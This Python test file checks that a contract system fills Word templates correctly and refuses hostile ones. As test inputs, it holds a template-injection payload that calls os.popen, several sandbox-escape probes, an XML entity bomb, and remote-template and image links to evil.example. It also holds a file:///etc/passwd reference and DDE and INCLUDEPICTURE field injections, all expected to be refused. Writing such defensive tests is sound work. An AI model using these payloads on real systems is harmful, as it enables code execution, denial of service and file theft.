"""What a template may hold: fields in Word's own disorder are filled, and whatever runs, fetches or explodes is refused."""

import io
import re
import time

import pytest
from docx import Document

from contracts.papers import defaults, filling, reading
from contracts.papers.fields import FIELDS, example
from contracts.states import PaperKind
from salescontrol.core.errors import Refusal
from tests.contracts.word import changed, document, saved, texts


@pytest.mark.parametrize("kind", PaperKind)
def test_the_products_own_template_prints_what_a_paper_of_its_kind_wants(kind):
    content = defaults.template(kind)
    assert filling.try_out(content).missing(kind) == []
    printed = texts(filling.fill(content, example()))
    assert not any("{" in text or "}" in text for text in printed)
    assert any(FIELDS["unit_no"].example in text for text in printed)


def test_a_field_that_word_split_over_runs_is_filled_and_signs_are_kept():
    made = Document()
    paragraph = made.add_paragraph("甲方：{{ custo")
    paragraph.add_run("mer_na").bold = True
    paragraph.add_run("mes }}，完。")
    found = filling.try_out(saved(made))
    assert found.fields == {"customer_names"}
    filled = filling.fill(saved(made), {**example(), "customer_names": "王 & <小明>\x0b、“李”"})
    assert texts(filled) == ["甲方：王 & <小明>、“李”，完。"]


def test_every_buyer_has_a_row():
    made = Document()
    table = made.add_table(rows=3, cols=2)
    for row, pair in zip(table.rows, (("{%tr for b in buyers %}", ""), ("{{ loop.index }}", "{{ b.name }}"),
                                      ("{%tr endfor %}", "")), strict=True):  # fmt: skip
        row.cells[0].text, row.cells[1].text = pair
    filled = filling.fill(saved(made), example())
    assert [[cell.text for cell in row.cells] for row in Document(io.BytesIO(filled)).tables[0].rows] == [
        ["1", "王小明"], ["2", "李四 & <王五>"],
    ]  # fmt: skip


def test_heads_and_feet_are_filled_and_judged():
    made = Document()
    made.sections[0].header.paragraphs[0].text = "{{ project_name }}"
    filled = Document(io.BytesIO(filling.fill(saved(made), example())))
    assert filled.sections[0].header.paragraphs[0].text == FIELDS["project_name"].example
    made.sections[0].footer.paragraphs[0].text = "{{ total.__class__ }}"
    assert refusal(saved(made)) == "not_allowed"
    titled = Document()
    titled.core_properties.title = "{{ ''.__class__ }}"
    assert refusal(saved(titled)) == "not_allowed"


def test_a_paper_is_read_again_in_its_order():
    found = list(reading.blocks(filling.fill(defaults.template(PaperKind.SUBSCRIPTION), example())))
    assert [block.style for block in found[:4]] == ["title", "text", "text", "table"]
    assert found[3].rows[1][0] == "王小明"


def refusal(content: bytes) -> str:
    with pytest.raises(Refusal) as caught:
        filling.try_out(content)
    assert caught.value.fields["file"]
    return caught.value.code


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "not_allowed"),
        ("{{ ''.__class__.__mro__ }}", "not_allowed"),
        ("{{ total['__class__'] }}", "not_allowed"),
        ("{{ total|attr('__class__') }}", "not_allowed"),
        ("{% for a in range(10**9) %}x{% endfor %}", "not_allowed"),
        ("{{ 'a' * 10**9 }}", "not_allowed"),
        ("{% for a in buyers %}{% for b in buyers %}x{% endfor %}{% endfor %}", "not_allowed"),
        ("{% for a in buyers recursive %}{{ loop(buyers) }}{% endfor %}", "not_allowed"),
        ("{% include 'x' %}", "not_allowed"),
        ("{% import 'x' as y %}", "not_allowed"),
        ("{% set x = 1 %}", "not_allowed"),
        ("{% macro m() %}{% endmacro %}", "not_allowed"),
        ("{{ total|safe }}", "not_allowed"),
        ("{{ buyers }}", "not_allowed"),
        ("{{ floor_total }}", "unknown_fields"),
        ("{% for b in buyers %}{{ b.secret }}{% endfor %}", "unknown_fields"),
        ("{% for b in persons %}x{% endfor %}", "unknown_fields"),
        ("{{r total }}", "syntax"),
        ("{% cellbg total %}", "syntax"),
        ("{{ total }", "syntax"),
        ("{{ total", "syntax"),
        ("{{ total total }}", "syntax"),
        ("{% if total %}", "syntax"),
        ("{% endfor %}", "syntax"),
        ("{% foo %}", "syntax"),
        ("{% if " + "(" * 90 + "total" + ")" * 90 + " %}", "not_allowed"),
    ],
)
def test_a_template_only_prints_asks_and_loops(text, code):
    assert refusal(document(text)) == code


def test_an_unknown_field_is_named():
    with pytest.raises(Refusal, match="prize, unitno"):
        filling.try_out(document("{{ unitno }}", "{{ prize }}", "{{ total }}"))


def test_a_mistake_is_shown_with_the_words_around_it():
    with pytest.raises(Refusal, match=re.escape("“成交总价 {{ total }”")):
        filling.try_out(document("成交总价 {{ total }"))


def test_a_loop_across_the_layout_is_no_document():
    made = Document()
    made.add_paragraph("{% for b in buyers %}")
    made.add_table(rows=1, cols=1).rows[0].cells[0].text = "{% endfor %}"
    assert refusal(saved(made)) == "layout"


@pytest.mark.parametrize(
    "text", ["{" * 3000 + "a" * 500_000, "{{ total " * 3000, "{% colspan " * 1500 + "x" * 500_000, "{{ total }}" * 1500]
)
def test_judging_never_takes_long(text):
    began = time.perf_counter()
    assert refusal(document(text)) in ("syntax", "too_large")
    assert time.perf_counter() - began < 10


RELS = "word___rels__document_DOT_xml_DOT_rels"
BODY = "word__document_DOT_xml"


def related(kind: str, target: str, external: bool = True):
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="rX" Type="http://x/relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    return lambda old: old.replace(b"</Relationships>", line.encode())


def bombed(old: bytes) -> bytes:
    head, _sep, body = old.partition(b"?>")
    return head + b'?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + body


def bombed_16(old: bytes) -> bytes:
    return bombed(old).decode().replace("UTF-8", "UTF-16", 1).encode("utf-16")


def within(old: bytes, inside: str) -> bytes:
    return old.replace(b"<w:body>", b"<w:body>" + inside.encode(), 1)


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({BODY: bombed}, "entities"),
        ({BODY: bombed_16}, "entities"),
        ({"word__vbaProject_DOT_bin": b"x"}, "macros"),
        ({"[Content_Types]_DOT_xml": lambda old: old.replace(
            b"wordprocessingml.document.main+xml", b"wordprocessingml.macroEnabled.main+xml")}, "macros"),
        ({"word__embeddings__oleObject1_DOT_bin": b"x"}, "embedded"),
        ({BODY: lambda old: within(old, '<w:altChunk r:id="rX"/>')}, "embedded"),
        ({RELS: related("attachedTemplate", "http://evil.example/t.dotm")}, "external"),
        ({RELS: related("image", "http://evil.example/p.png")}, "external"),
        ({RELS: related("image", "file:///etc/passwd")}, "external"),
        ({RELS: related("hyperlink", "file://evil.example/x")}, "external"),
        ({BODY: lambda old: within(old, '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText>'
                                        "</w:r></w:p>")}, "external"),
        ({BODY: lambda old: within(old, '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/></w:p>')}, "external"),
        ({BODY: lambda old: within(old, "<!-- {{ total.__class__ }} -->")}, "syntax"),
        ({BODY: lambda old: within(old, '<w:p w:rsidR="{{ total }}"/>')}, "syntax"),
        ({"word__big_DOT_xml": b"<a>" + b" " * 3_000_000 + b"</a>"}, "too_large"),
        ({"word__media__big_DOT_png": b"\0" * 40_000_000}, "too_large"),
        ({BODY: b"<w:document"}, "damaged"),
        ({"[Content_Types]_DOT_xml": lambda old: old.replace(
            b"</Types>", b'<Override PartName="/word/a.png" ContentType="application/xml"/></Types>')}, "damaged"),
    ],
)  # fmt: skip
def test_a_hostile_file_is_refused(parts, code):
    assert refusal(changed(document("{{ total }}"), **parts)) == code


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"no zip at all", b"PK\x05\x06" + b"\0" * 18])
def test_what_is_no_document_is_refused(content):
    assert refusal(content) == "damaged"


def test_a_link_to_click_may_stay():
    content = changed(document("{{ total }}"), **{RELS: related("hyperlink", "https://office.example/")})
    assert filling.try_out(content).fields == {"total"}
